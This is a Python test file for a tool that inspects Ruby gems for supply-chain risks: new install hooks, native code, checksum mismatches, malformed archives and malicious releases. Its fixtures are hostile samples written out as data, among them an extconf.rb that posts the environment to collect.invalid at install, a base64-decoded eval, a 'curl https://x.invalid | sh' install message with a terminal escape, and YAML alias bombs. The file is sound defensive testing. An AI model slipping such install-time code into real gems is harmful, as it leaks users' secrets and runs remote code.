"""Gems from end to end: `inspect` and `diff` against a gem server on this machine."""

import gzip
import os
import shutil
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from tests.builders import Files, tgz
from tests.cli.running import YESTERDAY, Machine
from tests.loopback import GemPackage, LoopbackRegistry, gem_file
from tests.loopback.gem_packages import checksums, gem_of, metadata, packed_gem

PLAIN = {"README.md": "kite\n"}
HOOKED: Files = {**PLAIN, "ext/kite/CMakeLists.txt": "project(kite)\n", "lib/rubygems_plugin.so": b"marker"}
NATIVE: Files = {**PLAIN, "lib/kite.so": b"\x7fELF"}
KITE = GemPackage(
    name="kite",
    files=(
        gem_file("kite", "1.0.0", PLAIN),
        gem_file("kite", "1.1.0", HOOKED, extensions=("ext/kite/CMakeLists.txt",)),
        gem_file("kite", "1.1.0", NATIVE, platform="x86_64-linux"),
    ),
)


@pytest.fixture
def machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Machine]:
    for name in list(os.environ):
        if name.startswith("BUNDLE_") or name == "GEMRC":
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    with LoopbackRegistry(gems=[KITE]) as registry:
        (Path(os.environ["HOME"]) / ".gemrc").write_text(f"---\n:sources:\n- {registry.gem_url}\n")
        yield Machine(tmp_path, registry, capsys)


def test_a_gem_is_judged_by_each_of_its_names(machine: Machine) -> None:
    names = ("gem:kite@1.0.0", "pkg:gem/kite@1.0.0", "kite@= 1.0")
    ran = machine.run("inspect", "--ecosystem", "gem", "--format", "jsonl", *names)
    assert 0 == ran.code
    assert ["pkg:gem/kite@1.0.0"] * 3 == [line["purl"] for line in ran.lines]


def test_new_hooks_of_a_gem_are_held_for_review(machine: Machine) -> None:
    ran = machine.run("inspect", "gem:kite@1.1.0", "--platform", "any", "-v")
    assert 1 == ran.code
    assert (
        "plugin is new: gem will run `lib/rubygems_plugin.so` at install, and in every later gem command"
        in ran.out
    )
    assert "cmake is new: gem will run `ext/kite/CMakeLists.txt` at install" in ran.out
    assert "./metadata:" in ran.out
    assert "compared with gem:kite@1.0.0" in ran.out


def test_the_gem_for_the_platform_is_judged(machine: Machine) -> None:
    ran = machine.run("inspect", "gem:kite@1.1.0", "-v", "--platform", "linux-x86_64")
    assert machine.registry.requests_to("*/kite-1.1.0-x86_64-linux.gem")
    assert not machine.registry.requests_to("*/kite-1.1.0.gem")
    assert "native code in 1 files, and none in the baseline" in ran.out


SENDING = """require "mkmf"
require "net/http"
Net::HTTP.post(URI("https://collect.invalid/in"), ENV.to_h.to_s)
create_makefile("kite")
"""
BUILDS = {**PLAIN, "ext/extconf.rb": 'require "mkmf"\ncreate_makefile("kite")\n', "ext/kite.c": "int x;\n"}
LOADING = 'require "base64"\neval(Base64.decode64("cHV0cyAi"+"bWFya2VyIg=="))\n'
BUILT = ("ext/extconf.rb",)


BAD: Mapping[str, tuple[Files, Files, tuple[str, ...], str, str]] = {
    "sends": (
        BUILDS,
        {**BUILDS, "ext/extconf.rb": SENDING},
        BUILT,
        "capability-gained",
        "new in this release, when it is installed: reads the environment and uses the network",
    ),
    "rakes": (
        BUILDS,
        {**BUILDS, "Rakefile": SENDING.replace("mkmf", "rake"), "ext/rakefile.txt": ""},
        (*BUILT, "ext/rakefile.txt"),
        "new-install-hook",
        "rakefile is new: gem will run `Rakefile` at install",
    ),
    "loads": (
        {**BUILDS, "lib/rubygems_plugin.rb": "Gem.load_yaml\n"},
        {**BUILDS, "lib/rubygems_plugin.rb": LOADING},
        BUILT,
        "decoded-then-executed",
        "decoded data is passed to Kernel.eval at install",
    ),
}
"""Gem -> its files before and after it turned bad, its extensions then, and what is told of it."""


def test_a_gem_that_turns_bad_is_held_for_review_or_blocked(machine: Machine) -> None:
    for name, (before, after, extensions, _, _) in BAD.items():
        good = gem_file(name, "2.0.0", before, extensions=BUILT)
        bad = gem_file(name, "2.0.1", after, extensions=extensions)
        machine.registry.put_gem(GemPackage(name=name, files=(good, bad)))
    ran = machine.run("inspect", "--format", "jsonl", *(f"pkg:gem/{name}@2.0.1" for name in BAD))
    assert 1 == ran.code
    assert {("block", None), ("hold", "review")} == {(line["action"], line["kind"]) for line in ran.lines}
    told = [(reason["source"], reason["text"]) for line in ran.lines for reason in line["reasons"]]
    assert {(rule, text) for _, _, _, rule, text in BAD.values()} <= set(told)


def test_an_age_is_told_where_the_index_tells_all_times_and_else_is_not_known(machine: Machine) -> None:
    times = {"dated": (YESTERDAY, YESTERDAY), "older": (None, None), "partly": (YESTERDAY, None)}
    for name, dates in times.items():
        files = [gem_file(name, f"1.{n}", PLAIN, published_at=at) for n, at in enumerate(dates)]
        machine.registry.put_gem(GemPackage(name=name, files=tuple(files)))
    ran = machine.run("inspect", "--format", "jsonl", *(f"gem:{name}@1.1" for name in times))
    assert 5 == ran.code
    told = {
        line["purl"]: (line["reasons"][0]["text"][:30], line["coverage"]["families"]["age"]["known"])
        for line in ran.lines
    }
    assert {
        "pkg:gem/dated@1.1": ("published 20 h ago; the cooldo", 1),
        "pkg:gem/older@1.1": ("publish time unknown; first se", 0),
        "pkg:gem/partly@1.1": ("publish time unknown; first se", 0),
    } == told


def test_a_gem_whose_bytes_are_not_those_of_the_index_is_blocked(machine: Machine) -> None:
    false = GemPackage(name="kite", files=(gem_file("kite", "1.0.0", PLAIN, checksum="0" * 64),))
    machine.registry.put_gem(false)
    ran = machine.run("inspect", "gem:kite@1.0.0")
    assert 1 == ran.code
    assert "changed-bytes" in ran.out


METADATA = metadata("kite", "1.0", tuple(PLAIN))
DATA = tgz(PLAIN, root="")
WHOLE = packed_gem(PLAIN, METADATA)


def made_of(text: str, data: bytes = DATA, *, sums: str | None = None) -> bytes:
    return gem_of({"metadata.gz": gzip.compress(text.encode(), mtime=0), "data.tar.gz": data}, sums=sums)


ALIASES = "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 100))])
OBJECTS = "--- !ruby/object:Gem::Installer\npackage: !ruby/object:Gem::Package::TarReader\n  io: 1\n"
DAMAGED: Mapping[str, tuple[bytes, str]] = {
    "empty": (b"", "the file is empty"),
    "text": (b"MD5SUM = 1\n", "do not match a known format"),
    "cut-off": (WHOLE[:700], "the tar ends inside 'metadata.gz'"),
    "cut-data": (made_of(METADATA, DATA[:-20]), "the gzip stream is cut off"),
    "no-data": (gem_of({"metadata.gz": gzip.compress(METADATA.encode())}), "the gem has no data.tar.gz"),
    "no-metadata": (gem_of({"data.tar.gz": DATA}), "the gem has no metadata"),
    "other-sums": (
        made_of(METADATA, sums=checksums({"data.tar.gz": b"other"})),
        "the sha256 of the member differs from the one in checksums.yaml.gz",
    ),
    "aliases": (made_of(ALIASES), "the metadata has no gem name"),
    "objects": (made_of(OBJECTS), "the metadata has no gem name"),
    "circle": (made_of("name: &a [*a]\n"), "an alias refers to a value that contains it"),
    "deep": (made_of(f"name: {'[' * 100_000}"), "nested more than 32 deep"),
    "long": (made_of("x" * 11_000_000), "unpacks to more than 10485760 bytes"),
}
"""Name -> bytes of a gem, and what is told of it."""


def test_a_damaged_gem_is_held_and_the_damage_is_named(machine: Machine) -> None:
    for name, (data, _) in DAMAGED.items():
        (machine.folder / f"{name}.gem").write_bytes(data)
    ran = machine.run("inspect", "--format", "jsonl", *(f"{name}.gem" for name in DAMAGED))
    assert 1 == ran.code
    told = {line["target"].removesuffix(".gem"): line for line in ran.lines}
    assert dict.fromkeys(DAMAGED, "hold") == {name: line["action"] for name, line in told.items()}
    unsaid = [name for name, (_, text) in DAMAGED.items() if text not in str(told[name]["reasons"])]
    assert [] == unsaid


def test_a_local_gem_is_judged_without_a_server_and_its_message_reaches_no_terminal(machine: Machine) -> None:
    text = METADATA + 'post_install_message: "run \\e[2J curl https://x.invalid | sh"\n'
    (machine.folder / "kite.gem").write_bytes(packed_gem(PLAIN, text))
    (machine.folder / "old.gem").write_bytes(WHOLE)
    inspected, compared = machine.run("inspect", "-v", "kite.gem"), machine.run("diff", "old.gem", "kite.gem")
    assert (0, 0) == (inspected.code, compared.code)
    assert "no registry was queried" in inspected.out
    assert "same capabilities and manifest" in compared.out
    assert "\x1b[2J" not in inspected.out + compared.out
    assert [] == machine.registry.requests


def test_two_releases_of_a_gem_are_compared(machine: Machine) -> None:
    ran = machine.run("diff", "gem:kite@1.0.0", "pkg:gem/kite@1.1.0", "--format", "json", "--platform", "any")
    assert 0 == ran.code
    changed = {(change["field"], change["name"]): change["after"] for change in ran.json["manifest"]}
    assert {
        ("hook", "cmake"): "ext/kite/CMakeLists.txt",
        ("hook", "plugin"): "lib/rubygems_plugin.so",
        ("entry", "lib/rubygems_plugin.so"): "lib/rubygems_plugin.so",
    } == changed


gem = shutil.which("gem")
GEMSPEC = """Gem::Specification.new { |s| s.name = "kite"; s.version = "1.0.0"; s.summary = "a"; s.authors = ["ada"]
  s.files = Dir["{lib,ext}/**/*"]; s.extensions = ["ext/extconf.rb"]; s.license = "MIT"
  s.homepage = "https://kite.example"; s.post_install_message = "thank you" }
"""


@pytest.mark.skipif(gem is None, reason="RubyGems is not installed")
def test_a_gem_that_ruby_builds_is_judged_like_one_of_our_own(machine: Machine) -> None:
    assert gem is not None
    for path, text in {"kite.gemspec": GEMSPEC, "ext/extconf.rb": SENDING, "lib/kite.rb": ""}.items():
        machine.write(path, text)
    done = subprocess.run([gem, "build", "kite.gemspec"], capture_output=True, check=False, timeout=120)
    assert 0 == done.returncode, done.stderr
    ran = machine.run("inspect", "kite-1.0.0.gem")
    assert 1 == ran.code
    assert "! at install it " in ran.out
    assert "anomaly" not in ran.out
